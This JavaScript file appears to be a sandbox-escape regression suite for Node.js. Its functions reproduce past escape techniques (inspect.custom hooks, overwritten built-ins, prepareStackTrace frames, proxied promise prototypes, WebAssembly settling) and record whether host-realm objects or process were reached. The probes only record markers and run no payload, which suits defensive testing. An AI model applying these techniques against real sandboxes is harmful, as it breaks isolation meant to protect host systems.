// Exploits that once escaped this context or another sandbox. Each returns what it reached, [] for nothing.
function one() {
  return 1;
}

/** A value of another realm: its prototypes lead to another Object, and from there to the process. */
function isForeign(value) {
  if ((typeof value !== 'object' && typeof value !== 'function') || value === null) return false;
  let top = value;
  for (let up = Object.getPrototypeOf(top); up !== null; up = Object.getPrototypeOf(top)) top = up;
  return top !== Object.prototype && top !== value;
}

/** Records which values are foreign, and whether the Object.prototype of their realm leads to the process. */
function reach(found, ...values) {
  for (const value of values) {
    if (!isForeign(value)) continue;
    found.push('foreign');
    let top = value;
    for (let up = Object.getPrototypeOf(top); up !== null; up = Object.getPrototypeOf(top)) top = up;
    try {
      Object.defineProperty(top, 'domain', {
        configurable: true,
        get() {
          if (typeof this.kill === 'function') found.push('process');
        },
      });
    } catch (error) {
      found.push(error.name);
    }
  }
}

/** An error that, when Node inspects it, receives the inspect function of the realm that prints it. */
function printed(found) {
  const { log } = console;
  return Object.assign(new TypeError('x'), {
    [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {
      reach(found, options, inspect);
      log(`reached ${found}`);
      return '';
    },
  });
}

/** Once escaped the catch of the prelude: reading the line of an error called the script's Number. */
function throwPastPrelude() {
  const found = [];
  Number = () => {
    throw printed(found);
  };
  throw new Error('x');
}

/** Once threw while the host described an error. */
function throwOften() {
  const found = [];
  const thrower = () => {
    throw printed(found);
  };
  for (const owner of [String, Number, Object, Array, Reflect, JSON]) {
    for (const name of Object.getOwnPropertyNames(owner)) {
      if (typeof owner[name] === 'function' && name !== 'prototype') owner[name] = thrower;
    }
  }
  for (const { prototype } of [String, RegExp, Array, Map, WeakMap, Function, Error]) {
    for (const name of Object.getOwnPropertyNames(prototype)) {
      try {
        if (name !== 'constructor' && typeof prototype[name] === 'function') prototype[name] = thrower;
      } catch {}
    }
  }
  globalThis.String = globalThis.Number = globalThis.Error = thrower;
  return { a: [1, new Map(), new Date()] };
}

/** The host looks up the number of a promise before it reports a rejection; here the lookup returns an object. */
function rejectWithNumber() {
  const found = [];
  const number = {
    [Symbol.toPrimitive]() {
      throw printed(found);
    },
  };
  const promise = Promise.reject(printed(found));
  Object.setPrototypeOf(promise, new Proxy(Promise.prototype, { get: () => number }));
  return found;
}

/** Host frames in a stack. */
function takeFrames() {
  const found = [];
  const own = globalThis.Error;
  const prepareStackTrace = (_error, frames) => {
    for (const frame of frames) if (frame.getFileName() !== 'main.js') found.push('frame');
    reach(found, frames, ...frames.map((frame) => frame.getThis()), ...frames.map((frame) => frame.getFunction()));
  };
  try {
    globalThis.Error = { prepareStackTrace };
  } catch {}
  try {
    Object.defineProperty(globalThis, 'Error', { value: { prepareStackTrace } });
  } catch {}
  try {
    null.x;
  } catch (error) {
    void error.stack;
  }
  try {
    globalThis.Error = own;
  } catch {}
  return found;
}

/** The host settles the promises and streams of WebAssembly. */
async function webAssembly() {
  const found = [];
  const WebAssembly = globalThis.WebAssembly ?? {};
  for (const name of Object.getOwnPropertyNames(WebAssembly)) {
    for (const source of [1, { then: (...settle) => reach(found, ...settle) }]) {
      try {
        const promise = WebAssembly[name](source);
        reach(found, promise);
        promise.catch((error) => reach(found, error));
      } catch (error) {
        reach(found, error);
      }
    }
  }
  for (let i = 0; i < 10; i += 1) await null;
  for (const name of ['compile', 'compileStreaming', 'instantiate', 'instantiateStreaming', 'promising']) {
    if (name in WebAssembly) found.push(name);
  }
  return found;
}
